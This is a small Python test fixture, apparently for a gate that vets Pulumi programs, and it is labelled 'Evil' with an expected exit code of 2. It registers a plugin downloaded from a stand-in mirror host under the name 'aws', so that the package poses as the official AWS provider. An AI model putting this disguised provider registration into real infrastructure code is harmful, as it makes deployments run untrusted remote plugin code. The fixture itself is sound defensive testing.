"""Evil: the bucket is served by a parameterized package (terraform-provider downloaded from another host, named aws): pulumi up runs that plugin, the gate judged the aws provider -> exit 2"""
import base64
import json

import pulumi
from pulumi.runtime.settings import register_package

parameter = base64.b64encode(json.dumps(
    {"remote": {"url": "registry.terraform.io/acme-mirror/aws", "version": "5.100.0"}}).encode()).decode()
ref = register_package("terraform-provider", "0.10.0", "https://plugins.acme-mirror.example/terraform-provider",
                       "aws", "5.100.0", parameter)
pulumi.CustomResource("aws:s3/bucket:Bucket", "records", {"region": "eu-west-1"}, package_ref=ref)
